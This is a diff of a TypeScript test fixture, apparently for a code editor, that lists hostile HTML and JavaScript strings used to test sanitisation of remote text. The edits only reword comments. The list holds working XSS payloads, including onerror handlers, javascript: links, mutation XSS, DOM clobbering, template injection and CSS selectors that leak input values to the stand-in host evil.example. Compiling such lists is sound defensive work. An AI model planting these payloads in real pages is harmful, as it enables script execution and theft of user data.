@@ -1,7 +1,7 @@
 // cspell:disable -- other people’s attacks, some in other languages
 /**
- * Hostile texts: what they run, if they run, is `alert`; what they load, if they load, is at `evil.example`. A test
- * puts each into every place that shows remote text.
+ * Hostile texts. They call `alert` if they run, and load from `evil.example`. Tests put each into every place that
+ * shows remote text.
  */
 export const attacks: readonly string[] = [
   // Scripts
@@ -71,7 +71,7 @@ export const attacks: readonly string[] = [
   '<math href="javascript:alert(1)">go</math>',
   '<math><maction actiontype="statusline#https://evil.example" xlink:href="javascript:alert(1)">go</maction></math>',
   '<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>',
-  // Markup that changes when it is read twice
+  // Markup that changes when it is parsed twice (mutation XSS)
   '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
   '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
   '<svg><p><style><g title="</style><img src=x onerror=alert(1)>">',
@@ -92,7 +92,7 @@ export const attacks: readonly string[] = [
   '<!-- --!><img src=x onerror=alert(1)> -->',
   '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->',
   '<p><!-- <p title="--><img src=x onerror=alert(1)>"></p>',
-  // Addresses that run or reach too far
+  // Addresses that run code or reach too far
   '<a href="javascript:alert(1)">go</a>',
   '<a href="JaVaScRiPt:alert(1)">go</a>',
   '<a href=" \u0001javascript:alert(1)">go</a>',
@@ -134,7 +134,7 @@ export const attacks: readonly string[] = [
   '`<img src=x onerror=alert(1)>`',
   '```"><img src=x onerror=alert(1)>\ncode\n```',
   '| a |\n|---|\n| <img src=x onerror=alert(1)> |',
-  // Styles that watch, cover or send
+  // Styles that observe, cover or send
   '<style>body{display:none}</style>',
   '<style>@import "https://evil.example/a.css";</style>',
   '<style>input[value^=a]{background:url(https://evil.example/a)}</style>',
@@ -146,7 +146,7 @@ export const attacks: readonly string[] = [
   '<div style="width:expression(alert(1))">x</div>',
   '<table background="https://evil.example/a.png"><tr><td background="https://evil.example/b.png">x</table>',
   '<div class="actions bar primary" id="page">imitation</div>',
-  // Elements that lead away, take over or put in
+  // Elements that navigate, replace or inject
   '<meta http-equiv=refresh content="0;url=https://evil.example/">',
   '<meta http-equiv="Content-Security-Policy" content="script-src *">',
   '<base href="https://evil.example/">',
@@ -166,12 +166,12 @@ export const attacks: readonly string[] = [
   '<bgsound src="https://evil.example/a.mid">',
   '<track src="https://evil.example/a.vtt">',
   '<script type="speculationrules">{"prefetch":[{"source":"list","urls":["https://evil.example/"]}]}</script>',
-  // Names that take the place of the page's own
+  // Names that shadow the page's own
   '<img name=body><img name=getElementById><a id=page name=page>x</a>',
   '<form name=document><input name=cookie></form><a id=vscode></a><a id=vscode name=postMessage>x</a>',
   '<form><input name=attributes><input name=parentNode><input name=nodeName></form>',
   '<slot name=x part=y exportparts=z is=w>x</slot>',
-  // Templates and texts that other layers read
+  // Templates and syntax of other layers
   '{{constructor.constructor("alert(1)")()}}',
   '${alert(1)}',
   '<%= alert(1) %>',
